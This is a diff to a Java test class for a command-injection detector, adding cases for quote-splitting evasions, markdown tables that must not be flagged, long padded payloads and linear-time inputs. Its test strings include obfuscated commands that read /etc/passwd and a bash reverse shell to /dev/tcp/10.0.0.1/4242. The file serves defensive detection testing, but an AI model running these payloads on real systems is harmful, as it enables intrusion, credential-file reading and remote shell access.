@@ -79,7 +79,7 @@ class CmdiDetectorTest {
   @ValueSource(strings = {
     ";w'h'o'a'm'i", ";wh\\oami", ";who$@ami", "|w\"h\"oami", "& w^h^o^a^m^i", ";c\\at /etc/passwd",
     ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", "{cat,/etc/passwd}", ";/???/??t /???/p??s??",
-    ";$'\\x63\\x61\\x74' /etc/passwd", "w'h'o'a'm'i"
+    ";$'\\x63\\x61\\x74' /etc/passwd", "w'h'o'a'm'i", "wh'oami", "w\"hoami", "''whoa'mi"
   })
   void quoteSplittingAndBlankEvasionsAreDetected(String value) {
     assertRule("cmdi.evasion", value);
@@ -140,8 +140,26 @@ class CmdiDetectorTest {
   }
 
   @ParameterizedTest
+  @ValueSource(strings = {
+    "| Name | ID |\n|---|---|\n| Jane | id |", "| Name | ID |\n| --- | --- |\n| Jane | id |",
+    "| Name | ID |\n|:--|--:|\n| Jane | id |", "| Name | ID |\n| :-- | --: |\n| Jane | id |"
+  })
+  void everyStyleOfMarkdownTableUsesPipesAsBorders(String table) {
+    assertNull(detect(table), () -> "flagged: " + table);
+    assertRule("cmdi.separator-command", table.replace("---", "--").replace(":--", "-")); // no delimiter row
+  }
+
+  @Test
+  void aWeakReadingIsStillImprovedByTheRestOfItsCommand() {
+    String padding = "x;sh -x".repeat(1000);
+    assertRule("cmdi.evasion", ";cat /etc/passwd;cat${IFS}/etc/passwd" + padding);
+    assertRule("cmdi.reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1;" + padding);
+    assertRule("cmdi.separator-command", padding);
+  }
+
+  @ParameterizedTest
   @ValueSource(strings = {";", ";;;;", "| ", "&&", "$(", "`", "\\n", "; ls ", "${IFS}", "eval(", "{a,", "; cat '",
-      "() {", "/bin/", "<?", "a\n"})
+      "() {", "/bin/", "<?", "a\n", ";sh -x", ";cat 'x", "sh(", "<ab sh="})
   void aMegabyteOfNearMissesCompletes(String unit) {
     String value = unit.repeat(1_000_000 / unit.length());
     detector.detect(Normalized.of(value)); // linear: completes; no timing assertion
